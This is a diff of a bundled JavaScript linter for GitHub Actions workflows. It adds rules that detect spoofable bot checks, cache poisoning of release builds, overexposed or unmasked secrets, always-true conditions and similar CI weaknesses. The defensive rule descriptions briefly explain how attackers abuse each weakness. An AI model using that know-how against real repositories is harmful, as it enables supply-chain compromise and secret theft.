+    description: "GitHub passes unknown `with:` keys on with only a warning in the log, so a misspelt input (`persist-credential`) silently keeps the action's default; a missing required input fails at run time.",
+    fix: "Use the input names from the action's action.yml.",
+    appliesTo: ['workflow', 'action'],
+    check(model, options) {
+        const out = [];
+        for (const job of model.jobs)
+            for (const step of job.steps) {
+                if (!step.uses)
+                    continue;
+                let declared;
+                let confidence = 'high';
+                if (step.uses.startsWith('./')) {
+                    const path = step.uses.slice(2).replace(/\/$/, '');
+                    const content = options.readLocalAction?.(path);
+                    if (content !== undefined)
+                        declared = localInputs(content, `${path}/action.yml`);
+                }
+                else {
+                    const known = ACTION_INPUTS[workflow_model_actionName(step.uses)];
+                    // Popular actions add inputs between major versions: an unknown one is likely, not certain.
+                    if (known)
+                        [declared, confidence] = [new Map(known.map((k) => [k, false])), 'medium'];
+                }
+                if (!declared)
+                    continue;
+                for (const [name] of yaml_tree_entries(step.with))
+                    if (!declared.has(name.toLowerCase()))
+                        out.push({ message: `${step.uses.replace(/@.*/, '')} has no input '${name}'`, line: keyLine(step.with, name), confidence });
+                for (const [name, required] of declared)
+                    if (required && !yaml_tree_entries(step.with).some(([k]) => k.toLowerCase() === name))
+                        out.push({ message: `${step.uses} requires the input '${name}'`, line: step.usesLine });
+            }
+        return out;
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/workflows/src/expressions.ts
+
+
+
+
+/**
+ * The `${{ }}` expressions of a string, found the way GitHub's template reader finds them: an
+ * expression ends at the first `}}` outside a single-quoted string literal, so
+ * `${{ format('}}{0}', x) }}` is one expression. An unclosed `${{` ends the scan (GitHub's
+ * parser reports it).
+ */
+function embeddedExpressions(text) {
+    const out = [];
+    let from = text.indexOf('${{');
+    while (from >= 0) {
+        let quoted = false;
+        let end = -1;
+        for (let i = from + 3; i < text.length; i += 1) {
+            const c = text[i];
+            if (c === "'")
+                quoted = !quoted;
+            else if (!quoted && c === '}' && text[i - 1] === '}' && i - 1 > from + 2) {
+                end = i + 1;
+                break;
+            }
+        }
+        if (end < 0)
+            break;
+        out.push({ source: text.slice(from + 3, end - 2).trim(), start: from, end });
+        from = text.indexOf('${{', end);
+    }
+    return out;
+}
+const CONTEXTS = ['github', 'env', 'inputs', 'steps', 'needs', 'matrix', 'strategy', 'secrets', 'vars', 'runner', 'job', 'jobs'];
+const FUNCTIONS = [
+    { name: 'hashFiles', minArgs: 1, maxArgs: 255 },
+    { name: 'success', minArgs: 0, maxArgs: 0 },
+    { name: 'always', minArgs: 0, maxArgs: 0 },
+    { name: 'failure', minArgs: 0, maxArgs: 255 },
+    { name: 'cancelled', minArgs: 0, maxArgs: 0 },
+];
+const cache = new Map();
+/** Parses an expression with GitHub's own parser; undefined when it does not parse (GitHub's parser reports why). */
+function parseExpression(source) {
+    const hit = cache.get(source);
+    if (hit !== undefined)
+        return hit ?? undefined;
+    let parsed;
+    try {
+        parsed = new parser_Parser(new lexer_Lexer(source).lex().tokens, CONTEXTS, FUNCTIONS).parse();
+    }
+    catch {
+        parsed = null;
+    }
+    if (cache.size > 20_000)
+        cache.clear();
+    cache.set(source, parsed);
+    return parsed ?? undefined;
+}
+/** The path of a context access chain (`github.event['x'].y`), or undefined when an index is computed. */
+function accessPath(e) {
+    if (e instanceof ContextAccess)
+        return [e.name.lexeme];
+    if (e instanceof IndexAccess) {
+        const base = accessPath(e.expr);
+        if (!base)
+            return undefined;
+        if (e.index instanceof Star)
+            return [...base, '*'];
+        if (e.index instanceof Literal)
+            return [...base, String(literalValue(e.index))];
+        return [...base, '?'];
+    }
+    return undefined;
+}
+/** The JavaScript value of a literal. */
+function literalValue(l) {
+    const d = l.literal;
+    if (d.kind === expressiondata_Kind.Null)
+        return null;
+    return d.value;
+}
+/** Every context path an expression reads, including inside function arguments and comparisons. */
+function readPaths(e) {
+    const out = [];
+    const walk = (n) => {
+        const path = accessPath(n);
+        if (path) {
+            out.push(path);
+            return;
+        }
+        if (n instanceof IndexAccess) {
+            walk(n.expr);
+            walk(n.index);
+        }
+        else if (n instanceof FunctionCall)
+            n.args.forEach(walk);
+        else if (n instanceof Binary) {
+            walk(n.left);
+            walk(n.right);
+        }
+        else if (n instanceof Logical)
+            n.args.forEach(walk);
+        else if (n instanceof Unary)
+            walk(n.expr);
+        else if (n instanceof Grouping)
+            walk(n.group);
+    };
+    walk(e);
+    return out;
+}
+/** True when an expression reads no context and calls no status function: its value is fixed when written. */
+function isConstant(e) {
+    if (e instanceof Literal)
+        return true;
+    if (e instanceof ContextAccess || e instanceof Star)
+        return false;
+    if (e instanceof IndexAccess)
+        return isConstant(e.expr) && isConstant(e.index);
+    if (e instanceof FunctionCall) {
+        const name = e.functionName.lexeme.toLowerCase();
+        if (['success', 'always', 'failure', 'cancelled', 'hashfiles'].includes(name))
+            return false;
+        return e.args.every(isConstant);
+    }
+    if (e instanceof Binary)
+        return isConstant(e.left) && isConstant(e.right);
+    if (e instanceof Logical)
+        return e.args.every(isConstant);
+    if (e instanceof Unary)
+        return isConstant(e.expr);
+    if (e instanceof Grouping)
+        return isConstant(e.group);
+    return false;
+}
+/** The truthiness of a constant expression (undefined when it cannot be evaluated). */
+function constantTruth(e) {
+    try {
+        return truthy(new evaluator_Evaluator(e, new Dictionary()).evaluate());
+    }
+    catch {
+        return undefined;
+    }
+}
+/** The name of a function call (lower case), or undefined. */
+function callName(e) {
+    return e instanceof FunctionCall ? e.functionName.lexeme.toLowerCase() : undefined;
+}
+
+/** Calls `fn` on an expression and every expression inside it. */
+function visitAll(e, fn) {
+    fn(e);
+    if (e instanceof IndexAccess) {
+        visitAll(e.expr, fn);
+        visitAll(e.index, fn);
+    }
+    else if (e instanceof FunctionCall || e instanceof Logical)
+        e.args.forEach((a) => visitAll(a, fn));
+    else if (e instanceof Binary) {
+        visitAll(e.left, fn);
+        visitAll(e.right, fn);
+    }
+    else if (e instanceof Unary)
+        visitAll(e.expr, fn);
+    else if (e instanceof Grouping)
+        visitAll(e.group, fn);
+}
+/** The expression of an `if:` value: a bare expression, or one fenced in `${{ }}` with nothing around it. */
+function conditionSource(value) {
+    const fenced = /^\s*\$\{\{([\s\S]*)\}\}\s*$/.exec(value);
+    return fenced && embeddedExpressions(value).length === 1 ? (fenced[1] ?? '') : value;
+}
+
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/bot-conditions.ts
+
+
+/** `github.actor == '<name>[bot]'` comparisons inside an expression. */
+function botComparisons(e) {
+    const out = [];
+    visitAll(e, (n) => {
+        if (!(n instanceof Binary) || (n.operator.lexeme !== '==' && n.operator.lexeme !== '!='))
+            return;
+        const sides = [n.left, n.right];
+        const path = sides
+            .map(accessPath)
+            .find((p) => p !== undefined)
+            ?.join('.');
+        const lit = sides.find((s) => s instanceof Literal);
+        const value = lit ? String(literalValue(lit)) : '';
+        if ((path === 'github.actor' || path === 'github.triggering_actor') && /\[bot\]$/i.test(value))
+            out.push(`${path} == '${value}'`);
+    });
+    return out;
+}
+const conditionOf = (node) => {
+    const v = yaml_tree_text(node);
+    return v === undefined ? undefined : conditionSource(v);
+};
+/** `if: github.actor == 'dependabot[bot]'`: the last actor, not the author, and spoofable. */
+const botConditions = {
+    id: 'bot-conditions',
+    title: 'Spoofable bot check on github.actor',
+    severity: 'high',
+    confidence: 'high',
+    category: 'security',
+    description: "`github.actor` is whoever acted last on the event, not who wrote the change: an attacker can get a bot to act last on a pull request whose other commits are the attacker's, and pass the check.",
+    fix: "Compare the author of the change instead: `github.event.pull_request.user.login == 'dependabot[bot]'`.",
+    appliesTo: ['workflow'],
+    check(model) {
+        if (!['pull_request_target', 'pull_request', 'workflow_run', 'issue_comment', 'pull_request_review'].some((t) => model.triggers.has(t)))
+            return [];
+        const out = [];
+        const judge = (node, where) => {
+            const cond = conditionOf(node);
+            const e = cond ? parseExpression(cond) : undefined;
+            if (!node || !e)
+                return;
+            for (const c of botComparisons(e))
+                out.push({ message: `${where} trusts ${c}`, line: node.line, confidence: model.exposure === 'privileged' ? 'high' : 'medium' });
+        };
+        for (const job of model.jobs) {
+            judge(yaml_tree_child(job.node, 'if'), `job '${job.id}'`);
+            for (const step of job.steps)
+                judge(yaml_tree_child(step.node, 'if'), `a step of '${job.id}'`);
+        }
+        return out;
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/cache-poisoning.ts
+
+
+
+/** True when the workflow only runs for releases or tag pushes. */
+function releaseOnly(model) {
+    const names = [...model.triggers.keys()];
+    if (names.length === 0)
+        return false;
+    return names.every((t) => {
+        if (t === 'release')
+            return true;
+        if (t !== 'push')
+            return t === 'workflow_dispatch';
+        const push = yaml_tree_child(model.on, 'push');
+        return yaml_tree_child(push, 'tags') !== undefined && yaml_tree_child(push, 'branches') === undefined;
+    });
+}
+/** True when a job publishes: a publishing action, or a script that uploads a package or image. */
+function publishes(job) {
+    return job.steps.some((s) => (s.uses &&
+        (PUBLISHERS[workflow_model_actionName(s.uses)] !== undefined ||
+            /goreleaser|action-gh-release|release-action|build-push-action/.test(workflow_model_actionName(s.uses)))) ||
+        (s.run !== undefined &&
+            /\b(npm|pnpm|yarn) publish\b|\btwine upload\b|\bcargo publish\b|\bgem push\b|\bdocker push\b|\bgh release (create|upload)\b|\bgoreleaser release\b/.test(s.run)));
+}
+/** Cache-restoring actions in workflows that build what gets released. */
+const cachePoisoning = {
+    id: 'cache-poisoning',
+    title: 'Release built from a restored cache',
+    severity: 'high',
+    confidence: 'high',
+    category: 'security',
+    description: "Caches are shared across a repository's workflows, and any job with the repository's token (including one running a compromised dependency in a pull request's CI) can write entries that a later release job restores and runs (cache poisoning, 2024). A release built from a restored cache can ship the attacker's code.",
+    fix: "Do not restore caches in release jobs: remove the cache step, turn the action's cache input off, or guard it with `if: github.event_name != 'release'`.",
+    appliesTo: ['workflow'],
+    check(model) {
+        const release = releaseOnly(model);
+        const out = [];
+        for (const job of model.jobs) {
+            const publishing = publishes(job);
+            if (!release && !publishing)
+                continue;
+            for (const step of job.steps) {
+                if (!step.uses)
+                    continue;
+                const name = workflow_model_actionName(step.uses);
+                const known = CACHE_AWARE[name];
+                if (!known)
+                    continue;
+                if (known.off && withValue(step, known.off.input) === known.off.value)
+                    continue;
+                const major = /@v(\d+)/.exec(step.uses)?.[1] ?? /#\s*v(\d+)/.exec(model.doc.lines[step.usesLine - 1] ?? '')?.[1];
+                if (known.sinceMajor && major !== undefined && Number(major) < known.sinceMajor)
+                    continue;
+                if (known.opt && !known.opt.value.test(withValue(step, known.opt.input) ?? ''))
+                    continue;
+                if (yaml_tree_text(yaml_tree_child(step.node, 'if'))?.includes('event_name'))
+                    continue;
+                out.push({
+                    message: `${name} restores a cache in job '${job.id}', which ${release ? 'runs only for releases' : 'publishes a release'}`,
+                    line: step.usesLine,
+                    confidence: release ? 'high' : 'medium',
+                });
+            }
+        }
+        return out;
+    },
+};
+
 ;// CONCATENATED MODULE: ./packages/workflows/src/rules/concurrency-deadlock.ts
 
 /** True when a group has no literal text of its own besides separators (it only echoes the caller's values). */
@@ -36567,6 +37433,8 @@ const concurrencyDeadlock = {
     id: 'concurrency-deadlock',
     title: 'Concurrency group of a called workflow collides with its caller',
     severity: 'high',
+    confidence: 'high',
+    category: 'validation',
     description: "Inside a workflow_call workflow, `github.workflow` and `github.ref` are the caller's. A group built only from them is the caller's own group, so the called workflow waits on (or cancels) the run that called it.",
     fix: 'Give the called workflow its own prefix: `group: secure-pipeline-${{ github.workflow }}-${{ github.ref }}`, or set concurrency only in the caller.',
     appliesTo: ['workflow'],
@@ -36601,76 +37469,912 @@ const concurrencyDeadlock = {
     },
 };
 
-;// CONCATENATED MODULE: ./packages/workflows/src/workflow-model.ts
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/secrets.ts
 
-function stepsOf(node) {
-    return yaml_tree_items(node).map((step) => ({
-        node: step,
-        line: step.line,
-        uses: yaml_tree_text(yaml_tree_child(step, 'uses')),
-        usesLine: yaml_tree_child(step, 'uses')?.line ?? step.line,
-        run: yaml_tree_text(yaml_tree_child(step, 'run')),
-        runLine: yaml_tree_child(step, 'run')?.line ?? step.line,
-        with: yaml_tree_child(step, 'with'),
-    }));
+
+/** Every parsed `${{ }}` of the file, with the scalar it sits in. */
+const expressionsCache = new WeakMap();
+function allExpressions(model) {
+    const hit = expressionsCache.get(model.root);
+    if (hit)
+        return hit;
+    const out = [];
+    expressionsCache.set(model.root, out);
+    const walk = (node) => {
+        if (!node)
+            return;
+        if (node.kind === 'scalar') {
+            if (typeof node.value !== 'string' || !node.value.includes('${{'))
+                return;
+            for (const e of embeddedExpressions(node.value)) {
+                const expr = parseExpression(e.source);
+                if (expr)
+                    out.push({ node, source: e.source, expr });
+            }
+        }
+        else if (node.kind === 'seq')
+            node.items.forEach(walk);
+        else
+            for (const v of node.entries.values())
+                walk(v);
+    };
+    walk(model.root);
+    return out;
 }
-/** Builds the model of a parsed workflow or action file. */
-function workflowModel(kind, doc) {
-    const root = doc.root;
-    const triggers = new Map();
-    // YAML 1.1 readers turn a bare `on` into true; the `yaml` package keeps the key as 'on'.
-    const on = yaml_tree_child(root, 'on') ?? yaml_tree_child(root, 'true');
-    if (on?.kind === 'map')
-        for (const [name] of yaml_tree_entries(on))
-            triggers.set(name, keyLine(on, name));
-    else
-        for (const item of yaml_tree_items(on))
-            if (yaml_tree_text(item))
-                triggers.set(yaml_tree_text(item) ?? '', item.line);
-    const jobs = [];
-    if (kind === 'workflow') {
-        for (const [id, job] of yaml_tree_entries(yaml_tree_child(root, 'jobs'))) {
-            jobs.push({
-                id,
-                node: job,
-                line: keyLine(yaml_tree_child(root, 'jobs'), id),
-                calls: yaml_tree_text(yaml_tree_child(job, 'uses')),
-                steps: stepsOf(yaml_tree_child(job, 'steps')),
-                needs: yaml_tree_items(yaml_tree_child(job, 'needs'))
-                    .map(yaml_tree_text)
-                    .filter((n) => n !== undefined),
+const isSecrets = (e) => e !== undefined && accessPath(e)?.join('.') === 'secrets';
+/** `toJSON(secrets)` and `secrets[expr]`: every secret of the repository sent to the runner. */
+const overprovisionedSecrets = {
+    id: 'overprovisioned-secrets',
+    title: 'The whole secrets context exposed',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'security',
+    description: 'The runner receives only the secrets a job names. `toJSON(secrets)` or an index computed at run time (`secrets[inputs.name]`) names them all, so every secret of the repository and organisation reaches the job.',
+    fix: 'Name each secret the job needs: `env: { TOKEN: ${{ secrets.TOKEN }} }`.',
+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        const out = [];
+        for (const { node, source, expr } of allExpressions(model)) {
+            let hit = false;
+            visitAll(expr, (n) => {
+                if (n instanceof FunctionCall && callName(n) === 'tojson' && isSecrets(n.args[0]))
+                    hit = true;
+                if (n instanceof IndexAccess && isSecrets(n.expr) && accessPath(n)?.includes('?'))
+                    hit = true;
+            });
+            if (hit)
+                out.push({ message: `\${{ ${source} }} exposes every secret`, line: node.line });
+        }
+        return out;
+    },
+};
+/** `fromJSON(secrets.X).field`: a part of a secret the runner does not know to mask in logs. */
+const unredactedSecrets = {
+    id: 'unredacted-secrets',
+    title: 'Secret used as structured data (not masked in logs)',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'security',
+    description: "The runner masks each secret's whole value in logs; a field taken out of a JSON secret is a different string and is printed in clear.",
+    fix: 'Store each field as its own secret.',
+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        const out = [];
+        for (const { node, source, expr } of allExpressions(model)) {
+            let hit = false;
+            visitAll(expr, (n) => {
+                if (n instanceof FunctionCall && callName(n) === 'fromjson' && n.args[0] && accessPath(n.args[0])?.[0] === 'secrets')
+                    hit = true;
+            });
+            if (hit)
+                out.push({ message: `\${{ ${source} }} takes a part of a secret, which is not masked`, line: node.line });
+        }
+        return out;
+    },
+};
+/** Secrets read by jobs without an environment, where environment protection rules cannot gate them. */
+const secretsOutsideEnv = {
+    id: 'secrets-outside-env',
+    title: 'Secret used in a job without a deployment environment',
+    severity: 'low',
+    confidence: 'low',
+    category: 'security',
+    description: "Repository and organisation secrets reach every job; an environment's secrets reach only jobs its protection rules let through.",
+    fix: 'Move the secret into an environment and give the job `environment: <name>`.',
+    appliesTo: ['workflow'],
+    check(model) {
+        const out = [];
+        for (const job of model.jobs) {
+            if (yaml_tree_child(job.node, 'environment') !== undefined || job.calls)
+                continue;
+            const found = new Set();
+            const sub = { ...model, root: job.node };
+            for (const { node, expr } of allExpressions(sub)) {
+                visitAll(expr, (n) => {
+                    const p = accessPath(n);
+                    if (p?.[0] === 'secrets' && p[1] && p[1] !== 'GITHUB_TOKEN' && !found.has(p[1])) {
+                        found.add(p[1]);
+                        out.push({ message: `job '${job.id}' reads secrets.${p[1]} without an environment`, line: node.line });
+                    }
+                });
+            }
+        }
+        return out;
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/conditions.ts
+
+
+
+/** Every `if:` of a workflow or composite action, with where it is. */
+function conditions(model) {
+    const out = [];
+    const add = (node, where) => {
+        const value = yaml_tree_text(node);
+        if (node && value !== undefined)
+            out.push({ node, value, where });
+    };
+    for (const job of model.jobs) {
+        add(yaml_tree_child(job.node, 'if'), `job '${job.id}'`);
+        for (const step of job.steps)
+            add(yaml_tree_child(step.node, 'if'), `step ${step.index + 1} of '${job.id}'`);
+    }
+    return out;
+}
+/** Every expression of an `if:` (bare, or each fenced one). */
+function conditionExpressions(value) {
+    const fenced = embeddedExpressions(value);
+    const sources = fenced.length > 0 ? fenced.map((f) => f.source) : [value];
+    return sources.map(parseExpression).filter((e) => e !== undefined);
+}
+/** `if: |` block scalars and `${{ a }} && ${{ b }}`: text outside the fence makes the condition a non-empty string, always true. */
+const unsoundCondition = {
+    id: 'unsound-condition',
+    title: 'Condition that is always true',
+    severity: 'high',
+    confidence: 'high',
+    category: 'security',
+    description: "When an `if:` holds `${{ }}` with any other text beside it (a block scalar's trailing newline, a second fenced expression), GitHub evaluates the whole as a string, which is never empty and so always true: the guard never stops the job or step.",
+    fix: "Write the condition as one bare expression (`if: github.event_name == 'push'`), or use `|-` so no newline is kept.",
+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        const out = [];
+        for (const c of conditions(model)) {
+            const fenced = embeddedExpressions(c.value);
+            if (fenced.length === 0)
+                continue;
+            const outside = c.value.slice(0, fenced[0]?.start ?? 0) + c.value.slice(fenced[fenced.length - 1]?.end ?? 0);
+            if (fenced.length > 1 || outside.length > 0)
+                out.push({
+                    message: `the condition of ${c.where} has text outside \${{ }} (${JSON.stringify(outside || ' between expressions ')}), so it is always true`,
+                    line: c.node.line,
+                });
+        }
+        return out;
+    },
+};
+/** `contains('refs/heads/main refs/heads/dev', github.ref)`: a substring test that `refs/heads/mai` also passes. */
+const unsoundContains = {
+    id: 'unsound-contains',
+    title: 'contains() on a string instead of a list',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'security',
+    description: "With a string as its first argument, contains() tests for a substring: a branch named `mai` passes `contains('refs/heads/main refs/heads/develop', github.ref)`.",
+    fix: 'Give contains() a list: `contains(fromJSON(\'["refs/heads/main", "refs/heads/develop"]\'), github.ref)`, or compare with ==.',
+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        const out = [];
+        for (const c of conditions(model)) {
+            for (const e of conditionExpressions(c.value)) {
+                visitAll(e, (n) => {
+                    if (!(n instanceof FunctionCall) || callName(n) !== 'contains')
+                        return;
+                    const [hay, needle] = n.args;
+                    const path = needle ? accessPath(needle)?.join('.') : undefined;
+                    if (hay instanceof Literal &&
+                        typeof literalValue(hay) === 'string' &&
+                        path &&
+                        /^(github\.(ref|ref_name|head_ref|base_ref|actor|event\.))|inputs\./.test(path))
+                        out.push({
+                            message: `the condition of ${c.where} tests whether ${path} is a substring of '${String(literalValue(hay))}'`,
+                            line: c.node.line,
+                        });
+                });
+            }
+        }
+        return out;
+    },
+};
+function falsyConstant(e) {
+    return isConstant(e) && constantTruth(e) === false;
+}
+/** `cond && '' || 'x'`: the "true" branch is falsy, so the result is always `'x'`. */
+const unsoundTernary = {
+    id: 'unsound-ternary',
+    title: 'Pseudo-ternary whose true value is falsy',
+    severity: 'low',
+    confidence: 'high',
+    category: 'hygiene',
+    description: "`a && b || c` yields c whenever b is falsy, so `cond && '' || 'x'` (or `&& 0`, `&& false`) is always 'x'.",
+    fix: "Swap the branches and negate the condition: `!cond && 'x' || ''`.",
+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        const out = [];
+        for (const { node, source, expr } of allExpressions(model)) {
+            visitAll(expr, (n) => {
+                if (!(n instanceof Logical) || n.operator.lexeme !== '||')
+                    return;
+                for (const operand of n.args.slice(0, -1)) {
+                    if (operand instanceof Logical && operand.operator.lexeme === '&&' && !isConstant(operand)) {
+                        const t = operand.args[operand.args.length - 1];
+                        if (t && falsyConstant(t))
+                            out.push({ message: `\${{ ${source} }} always yields its last alternative`, line: node.line });
+                    }
+                }
             });
         }
+        return out;
+    },
+};
+/** `if: true`, `if: false`, `if: 1 == 2`: a condition fixed when it was written. */
+const constantCondition = {
+    id: 'constant-condition',
+    title: 'Condition with a constant value',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'validation',
+    description: 'A condition that reads no context always has the same value: the job or step always runs, or never does, which is rarely what was meant.',
+    fix: 'Remove the condition (always true) or the job or step (always false), or make it test what was meant.',
+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        const out = [];
+        for (const c of conditions(model)) {
+            if (embeddedExpressions(c.value).length > 0 && c.value.trim() !== c.value)
+                continue;
+            const e = parseExpression(conditionSource(c.value));
+            if (!e || !isConstant(e))
+                continue;
+            const truth = constantTruth(e);
+            if (truth !== undefined)
+                out.push({ message: `the condition of ${c.where} is always ${truth}`, line: c.node.line });
+        }
+        return out;
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/container-credentials.ts
+
+/** Registry passwords written into the workflow for `container:` and `services:`. */
+const hardcodedContainerCredentials = {
+    id: 'hardcoded-container-credentials',
+    title: 'Registry password written in the workflow',
+    severity: 'high',
+    confidence: 'high',
+    category: 'security',
+    description: 'A password in the file is readable by everyone who can read the repository, forks and history included.',
+    fix: 'Use a secret: `password: ${{ secrets.REGISTRY_PASSWORD }}`.',
+    appliesTo: ['workflow'],
+    check(model) {
+        const out = [];
+        const judge = (container, where) => {
+            const pw = yaml_tree_child(yaml_tree_child(container, 'credentials'), 'password');
+            const value = yaml_tree_text(pw);
+            if (pw && value && !value.includes('${{'))
+                out.push({ message: `${where} has its registry password written in the file`, line: pw.line });
+        };
+        for (const job of model.jobs) {
+            judge(yaml_tree_child(job.node, 'container'), `the container of job '${job.id}'`);
+            for (const [name, service] of yaml_tree_entries(yaml_tree_child(job.node, 'services')))
+                judge(service, `service '${name}' of job '${job.id}'`);
+        }
+        return out;
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/dangerous-triggers.ts
+/** pull_request_target and workflow_run: privileged runs that outsiders trigger. */
+const dangerousTriggers = {
+    id: 'dangerous-triggers',
+    title: 'Workflow triggered by pull_request_target or workflow_run',
+    severity: 'medium',
+    confidence: 'medium',
+    category: 'security',
+    description: "These triggers run in the base repository's context, with its secrets and a writing token, on events a fork's author causes. Even without checking out the fork's code, argument, environment or file-name injection can turn its content into code.",
+    fix: 'Use `pull_request` (read-only, no secrets) unless the job must write to the base repository; for workflow_run, prefer a reusable workflow (`workflow_call`).',
+    appliesTo: ['workflow'],
+    check(model) {
+        return ['pull_request_target', 'workflow_run']
+            .filter((t) => model.triggers.has(t))
+            .map((t) => ({
+            message: `the workflow runs on ${t}, with the base repository's secrets, for events outsiders cause`,
+            line: model.triggers.get(t) ?? 1,
+        }));
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/definition-hygiene.ts
+
+
+/** Workflows and actions without `name:`. */
+const anonymousDefinition = {
+    id: 'anonymous-definition',
+    title: 'Workflow or action without a name',
+    severity: 'low',
+    confidence: 'low',
+    category: 'hygiene',
+    description: 'Without `name:` the Actions UI shows the file path, which makes runs harder to tell apart.',
+    fix: 'Add `name:` at the top.',
+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        return yaml_tree_child(model.root, 'name') === undefined ? [{ message: 'the file has no name:', line: model.root.line }] : [];
+    },
+};
+/** Workflows whose runs do not cancel superseded ones. */
+const concurrencyLimits = {
+    id: 'concurrency-limits',
+    title: 'No concurrency limit',
+    severity: 'low',
+    confidence: 'low',
+    category: 'hygiene',
+    description: 'Without a concurrency group that cancels in progress, every push starts another full run, and runs race for artifacts by name.',
+    fix: 'Add `concurrency: { group: ${{ github.workflow }}-${{ github.ref }}, cancel-in-progress: true }`.',
+    appliesTo: ['workflow'],
+    check(model) {
+        if (model.triggers.has('workflow_call') || yaml_tree_child(model.root, 'concurrency') !== undefined)
+            return [];
+        if (model.jobs.every((j) => yaml_tree_child(j.node, 'concurrency') !== undefined))
+            return [];
+        return [{ message: 'the workflow sets no concurrency group', line: 1 }];
+    },
+};
+/** Write permissions without a comment saying why. */
+const undocumentedPermissions = {
+    id: 'undocumented-permissions',
+    title: 'Permission granted without a comment',
+    severity: 'low',
+    confidence: 'low',
+    category: 'hygiene',
+    description: 'A comment beside each grant (`id-token: write # sign the image`) lets a reviewer see that it is still needed.',
+    fix: 'Add a comment after each grant other than `contents: read`.',
+    appliesTo: ['workflow'],
+    check(model) {
+        const out = [];
+        const blocks = [yaml_tree_child(model.root, 'permissions'), ...model.jobs.map((j) => yaml_tree_child(j.node, 'permissions'))];
+        for (const block of blocks)
+            for (const [scope, v] of yaml_tree_entries(block)) {
+                if (scope === 'contents' && yaml_tree_text(v) === 'read')
+                    continue;
+                if (yaml_tree_text(v) === 'none')
+                    continue;
+                const line = keyLine(block, scope);
+                if (!/#/.test(model.doc.lines[line - 1] ?? ''))
+                    out.push({ message: `'${scope}: ${yaml_tree_text(v) ?? ''}' has no comment saying why`, line });
+            }
+        return out;
+    },
+};
+const SHELLS = new Set(['bash', 'sh', 'pwsh', 'powershell', 'python', 'cmd']);
+/** Features that work but defeat review: setup-python's pip-install, the CMD shell, unknown shells. */
+const misfeature = {
+    id: 'misfeature',
+    title: 'Feature that hides what a step does',
+    severity: 'low',
+    confidence: 'medium',
+    category: 'hygiene',
+    description: "setup-python's `pip-install` installs into the global environment outside any lockfile; CMD has no grammar auditors can read; a custom shell may not exist on every runner.",
+    fix: 'Install packages in a run: step from a lockfile, and use bash or pwsh.',
+    appliesTo: ['workflow', 'action'],
+    check(model) {
+        const out = [];
+        for (const job of model.jobs)
+            for (const step of job.steps) {
+                if (step.uses && workflow_model_actionName(step.uses) === 'actions/setup-python' && withValue(step, 'pip-install') !== undefined)
+                    out.push({
+                        message: "setup-python's pip-install installs outside any lockfile",
+                        line: yaml_tree_child(step.with, 'pip-install')?.line ?? step.usesLine,
+                    });
+                const shell = yaml_tree_text(yaml_tree_child(step.node, 'shell'));
+                if (shell === 'cmd')
+                    out.push({ message: `a step of '${job.id}' runs in the CMD shell`, line: yaml_tree_child(step.node, 'shell')?.line ?? step.line });
+                else if (shell && !SHELLS.has(shell.split(/\s/)[0] ?? '') && !shell.includes('{0}'))
+                    out.push({
+                        message: `a step of '${job.id}' runs in the shell '${shell}'`,
+                        line: yaml_tree_child(step.node, 'shell')?.line ?? step.line,
+                        confidence: 'low',
+                    });
+            }
+        return out;
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/workflows/src/sinks.ts
+
+
+
+/** The code sinks of a step: `run:`, and the inputs of well-known actions that run their value as code. */
+function codeSinks(step) {
+    const out = [];
+    const run = yaml_tree_child(step.node, 'run');
+    if (run && step.run !== undefined)
+        out.push({ node: run, value: step.run, where: 'the run: script' });
+    if (!step.uses)
+        return out;
+    const name = step.uses.startsWith('docker://') ? 'docker://' : workflow_model_actionName(step.uses);
+    const known = SCRIPT_INPUTS[name] ?? SCRIPT_INPUTS[name.split('/').slice(0, 2).join('/')];
+    if (!known)
+        return out;
+    for (const [input, node] of yaml_tree_entries(step.with)) {
+        const value = yaml_tree_text(node);
+        if (value !== undefined && known.inputs.includes(input.toLowerCase()))
+            out.push({ node, value, where: `${name}'s ${input} input (${known.language})` });
     }
-    else {
-        const runs = yaml_tree_child(root, 'runs');
-        if (yaml_tree_text(yaml_tree_child(runs, 'using')) === 'composite') {
-            jobs.push({
-                id: '(composite)',
-                node: runs ?? root,
-                line: runs?.line ?? 1,
-                calls: undefined,
-                steps: stepsOf(yaml_tree_child(runs, 'steps')),
-                needs: [],
-            });
+    return out;
+}
+/** The 1-based line of an offset inside a scalar's value: block scalars start on the line after their key. */
+function lineWithin(model, node, value, offset) {
+    const header = model.doc.lines[node.line - 1] ?? '';
+    const block = /[|>][-+0-9]*\s*(#.*)?$/.test(header.trimEnd());
+    const before = value.slice(0, offset).split('\n').length - 1;
+    return node.line + (block ? 1 : 0) + before;
+}
+
+;// CONCATENATED MODULE: ./packages/workflows/src/rules/deprecated-commands.ts
+
+
+const DEPRECATED = {
+    'set-output': 'echo "name=value" >> "$GITHUB_OUTPUT"',
+    'save-state': 'echo "name=value" >> "$GITHUB_STATE"',
+    'set-env': 'echo "NAME=value" >> "$GITHUB_ENV"',
+    'add-path': 'echo "/path" >> "$GITHUB_PATH"',
+};
+/** `::set-output`, `::save-state`, `::set-env` and `::add-path` printed by scripts. */
+const deprecatedCommands = {
+    id: 'deprecated-commands',
+    title: 'Deprecated workflow command',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'validation',
+    description: 'GitHub disabled `::set-env` and `::add-path` in 2020 and deprecated `::set-output` and `::save-state` in 2022: the runner ignores them or warns, and they are written through stdout, which any tool the step runs can forge.',
+    fix: 'Write to the environment files instead ($GITHUB_OUTPUT, $GITHUB_STATE, $GITHUB_ENV, $GITHUB_PATH).',
